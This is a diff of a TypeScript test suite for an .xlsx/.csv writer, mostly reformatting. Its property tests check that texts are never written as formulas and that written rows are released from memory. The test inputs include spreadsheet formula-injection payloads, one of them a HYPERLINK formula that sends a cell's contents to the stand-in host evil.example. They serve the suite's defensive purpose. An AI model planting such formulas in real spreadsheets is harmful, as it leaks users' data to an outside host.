@@ -60,13 +60,21 @@ async function libro(filas: Fila[][]) {
 }
 
 /** What a text reads as once in a cell: characters XML 1.0 cannot hold are dropped. */
+// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is removed.
 const legible = (s: string) => s.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g, "");
 
 describe("the .xlsx writer", () => {
   it("property: texts, numbers and dates come back as written, texts never as formulas", async () => {
     const arbTexto = fc.oneof(
       fc.string({ unit: "binary", maxLength: 30 }),
-      fc.constantFrom('=HYPERLINK("http://evil.example/?x="&A2,"Click")', "@SUM(1+1)", "+1+1", "\r=3+4", " a ", "a & <b>"),
+      fc.constantFrom(
+        '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
+        "@SUM(1+1)",
+        "+1+1",
+        "\r=3+4",
+        " a ",
+        "a & <b>",
+      ),
     );
     const arbFila = fc.record({
       texto: arbTexto,
@@ -113,12 +121,15 @@ describe("rows written are let go", () => {
   for (const formato of ["csv", "xlsx"] as const) {
     it(`${formato}: no batch keeps a row once it is written`, async () => {
       const batches = [0, 1, 2].map((b) =>
-        Array.from({ length: 250 }, (_, i): Fila => ({
-          texto: `fila ${b}-${i}`,
-          numero: i,
-          dia: new Date(0),
-          instante: new Date(0),
-        })),
+        Array.from(
+          { length: 250 },
+          (_, i): Fila => ({
+            texto: `fila ${b}-${i}`,
+            numero: i,
+            dia: new Date(0),
+            instante: new Date(0),
+          }),
+        ),
       );
       async function* lotes() {
         yield* batches;
